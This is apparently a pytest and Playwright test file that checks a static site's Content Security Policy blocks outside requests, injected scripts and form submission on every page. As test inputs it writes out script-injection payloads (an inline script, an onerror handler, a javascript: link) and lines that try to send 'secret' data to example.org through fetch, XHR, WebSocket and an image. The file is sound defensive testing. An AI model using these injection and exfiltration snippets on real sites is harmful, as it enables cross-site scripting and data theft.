"""Nothing leaves the device: the policy holds in the browser on every page, and no page asks another site."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser.visit import search_for
from tests.moved import has_moved

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Request

pytestmark = pytest.mark.browser

# Written before a page's own scripts: what the policy refuses is kept, so that nothing is missed between two looks.
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.refused.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
"""
ELSEWHERE = "https://example.org/"


def pages_of(site: Path) -> list[str]:
    """Return the addresses of all pages of a built site, relative to it."""
    files = [path for path in site.rglob("*.html") if not has_moved(path)]
    return sorted(path.relative_to(site).as_posix().removesuffix("index.html") for path in files)


def test_no_page_breaks_the_policy_or_asks_another_site(browser: Browser, site: Path, address: str) -> None:
    context = browser.new_context(viewport={"width": 360, "height": 640})
    context.add_init_script(WATCH)
    page = context.new_page()
    requests, complaints = set(), []
    page.on("request", lambda request: requests.add(request.url))
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    refused = {}
    pages = pages_of(site)
    for path in pages:
        page.goto(address + path)
        if found := page.evaluate("window.refused"):
            refused[path] = found
    context.close()
    assert len(pages) > 100
    assert not refused
    assert not complaints
    assert not [url for url in requests if not url.startswith((address, "data:"))]


def test_searching_keeps_to_the_policy(page: Page, address: str) -> None:
    page.add_init_script(WATCH)
    page.goto(address)
    search_for(page, "sponsor a visa").click()
    page.wait_for_url(lambda url: url != address)
    assert page.evaluate("window.refused") == []
    assert "?" not in page.url  # What is searched for stays out of the address.


def test_an_injected_script_does_not_run(page: Page, address: str) -> None:
    page.goto(address)
    ran = page.evaluate("""async () => {
        const script = document.createElement("script");
        script.textContent = "window.ran = 'script'";
        document.body.append(script);
        document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror=\\"window.ran = 'handler'\\">");
        const link = document.createElement("a");
        link.href = "javascript:window.ran = 'link'";
        document.body.append(link);
        link.click();
        const far = document.createElement("script");
        far.src = "https://example.org/far.js";
        const failed = new Promise((resolve) => (far.onerror = () => resolve("refused")));
        document.body.append(far);
        await failed;
        await new Promise((resolve) => setTimeout(resolve, 100));
        return window.ran || null;
    }""")
    assert ran is None


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.org/?text=secret')",
        "new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', 'https://example.org/?secret');"
        " x.onload = done; x.onerror = () => fail(Error('refused')); x.send(); })",
        "new Promise((done, fail) => { const s = new WebSocket('wss://example.org/'); s.onopen = done;"
        " s.onerror = () => fail(Error('refused')); })",
        "new Promise((done, fail) => { const i = new Image(); i.onload = done;"
        " i.onerror = () => fail(Error('refused')); i.src = 'https://example.org/?secret'; })",
    ],
    ids=["fetch", "xhr", "websocket", "image"],
)
def test_what_is_typed_cannot_be_sent(page: Page, address: str, attempt: str) -> None:
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    page.add_init_script(WATCH)
    page.goto(address)
    assert page.evaluate(f"() => {attempt}.then(() => 'sent', () => 'refused')") == "refused"
    page.wait_for_function("() => window.refused.length > 0")
    assert page.evaluate("window.refused.length") == 1
    assert {request.failure for request in asked if request.url.startswith(ELSEWHERE)} <= {"csp"}


def test_no_form_is_submitted(page: Page, address: str) -> None:
    page.add_init_script(WATCH)
    page.goto(address)
    page.evaluate("""() => {
        const form = document.createElement("form");
        form.action = "/?typed=secret";
        document.body.append(form);
        form.submit();
    }""")
    page.wait_for_function("() => window.refused.length > 0")
    assert "form-action" in page.evaluate("window.refused[0]")
    assert page.url == address
